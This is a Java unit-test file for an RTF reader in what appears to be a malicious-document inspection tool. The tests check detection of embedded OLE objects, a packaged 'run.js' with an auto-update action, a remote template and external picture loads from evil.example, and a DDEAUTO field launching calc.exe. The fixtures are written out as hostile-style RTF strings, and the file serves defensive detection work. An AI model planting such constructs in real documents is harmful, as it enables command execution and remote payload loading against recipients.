package gyotaku.dissect.small;

import static gyotaku.dissect.small.Asked.details;
import static gyotaku.dissect.small.Asked.open;
import static org.assertj.core.api.Assertions.assertThat;

import gyotaku.model.Truncated;
import gyotaku.model.mail.Inside;
import gyotaku.model.mail.Link;
import gyotaku.model.mail.Opened;
import gyotaku.model.mail.Trait;
import gyotaku.model.mail.Written;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RtfReaderTest {

    private static String number(int value) {
        return String.format("%08x", Integer.reverseBytes(value));
    }

    private static String text(String text) {
        return number(text.length() + 1)
                + HexFormat.of().formatHex((text + "\0").getBytes(StandardCharsets.ISO_8859_1));
    }

    /// An embedded object of OLE 1.0 with `content`.
    private static String object(String type, byte[] content) {
        return number(0x501)
                + number(2)
                + text(type)
                + number(0)
                + number(0)
                + number(content.length)
                + HexFormat.of().formatHex(content);
    }

    private static byte[] packed(String label, String content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {2, 0});
        out.writeBytes((label + "\0C:\\x\\" + label + "\0").getBytes(StandardCharsets.ISO_8859_1));
        out.writeBytes(new byte[] {0, 0, 3, 0});
        String temp = "C:\\t\\" + label + "\0";
        out.writeBytes(HexFormat.of().parseHex(number(temp.length())));
        out.writeBytes(temp.getBytes(StandardCharsets.ISO_8859_1));
        out.writeBytes(HexFormat.of().parseHex(number(content.length())));
        out.writeBytes(content.getBytes(StandardCharsets.ISO_8859_1));
        return out.toByteArray();
    }

    @Test
    void aPlainDocumentSaysItsWords() {
        Opened opened = open(
                "a.rtf",
                "{\\rtf1\\ansi\\ansicpg932{\\fonttbl{\\f0 MS Gothic;}}{\\*\\generator Riched;}\\f0 Pay \\'90\\'bf\\'8b\\'81 \\u12354?\\par}");

        assertThat(opened.state()).isEqualTo(Opened.State.READ);
        assertThat(opened.traits()).isEmpty();
        assertThat(opened.texts().getFirst().text().strip()).isEqualTo("Pay 請求 あ");
    }

    @ParameterizedTest
    @ValueSource(strings = {"%s", "{\\*\\foo 00}%s", "\\'ff%s", "\\foo1 %s", "{\\*\\objdata}%s"})
    void anObjectIsFoundWhateverPartsItsDigits(String way) {
        String digits = object("Equation.3", "hello".getBytes(StandardCharsets.US_ASCII));
        String odd = digits.substring(0, 9) + "\n " + String.format(way, digits.substring(9));
        Opened opened = open("a.doc", "{\\rt{\\object\\objemb{\\*\\objdata " + odd + "}}}");

        assertThat(details(opened, Trait.Kind.EMBEDDED_OBJECT)).contains("Equation.3");
    }

    @Test
    void aPackageIsToldWithItsNamesAndOpened() {
        Opened opened = open(
                "a.rtf",
                "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata " + object("Package", packed("run.js", "inert"))
                        + "}}}");

        assertThat(details(opened, Trait.Kind.EMBEDDED_FILE)).containsExactly("run.js (C:\\x\\run.js)");
        assertThat(details(opened, Trait.Kind.OPEN_ACTION)).containsExactly("\\objupdate");
        assertThat(opened.files())
                .extracting(Inside::name, Inside::size)
                .contains(org.assertj.core.groups.Tuple.tuple("run.js", 5L));
    }

    @Test
    void aTemplateFromOutsideIsTold() {
        Opened opened = open("a.rtf", "{\\rtf1{\\*\\template https://evil.example/t.dotm}}");

        assertThat(details(opened, Trait.Kind.EXTERNAL_TEMPLATE)).containsExactly("https://evil.example/t.dotm");
    }

    @Test
    void fieldsAreTold() {
        Opened opened = open(
                "a.rtf",
                "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://evil.example/\"}{\\fldrslt Bank}}"
                        + "{\\field{\\*\\fldinst {DDEA}{UTO c:\\\\\\\\calc.exe x}}{\\fldrslt y}}"
                        + "{\\field{\\*\\fldinst INCLUDEPICTURE \"https://evil.example/i.png\"}{\\fldrslt z}}}");

        assertThat(opened.links())
                .containsExactly(
                        new Written("Bank", "https://evil.example/", Link.Context.FILE, ""),
                        new Written("", "https://evil.example/i.png", Link.Context.OTHER, ""));
        assertThat(details(opened, Trait.Kind.DDE)).containsExactly("DDEAUTO c:\\\\calc.exe x");
        assertThat(details(opened, Trait.Kind.EXTERNAL_LOAD)).containsExactly("https://evil.example/i.png");
    }

    @Test
    void openingBracesWithoutEndAreGivenUpOn() {
        assertThat(open("a.rtf", "{\\rtf1" + "{".repeat(1_000_000)).truncated())
                .extracting(Truncated::limit)
                .containsExactly("groups");
    }
}
